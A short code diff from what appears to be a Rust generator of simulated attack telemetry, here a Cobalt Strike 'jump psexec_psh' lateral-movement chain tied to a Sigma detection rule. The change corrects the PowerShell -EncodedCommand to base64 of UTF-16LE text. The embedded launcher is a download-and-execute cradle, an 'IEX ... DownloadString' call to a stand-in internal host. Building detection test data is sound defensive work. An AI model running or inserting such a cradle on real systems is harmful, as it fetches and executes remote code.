@@ -84,8 +84,12 @@ fn smbexec_sysmon_only(env: &mut Env, t: DateTime<Utc>) -> DemoChain {
 /// Cobalt Strike `jump psexec_psh`: a 7-character service running the PowerShell launcher
 /// (Sigma `win_system_cobaltstrike_service_installs.yml`).
 fn cobalt_strike_psh(env: &mut Env, t: DateTime<Utc>, outside: &str) -> DemoChain {
-    let launcher = base64::engine::general_purpose::STANDARD
-        .encode("IEX (New-Object Net.Webclient).DownloadString('http://10.10.9.66:80/a')");
+    // -EncodedCommand is base64 of UTF-16LE text, as PowerShell requires.
+    let script: Vec<u8> = "IEX (New-Object Net.Webclient).DownloadString('http://10.10.9.66:80/a')"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let launcher = base64::engine::general_purpose::STANDARD.encode(script);
     let service = format!("{}{}", env.rng.letters(5), env.rng.below(90) + 10);
     let spec = Spec {
         tool: "cobaltstrike-psexec-psh",
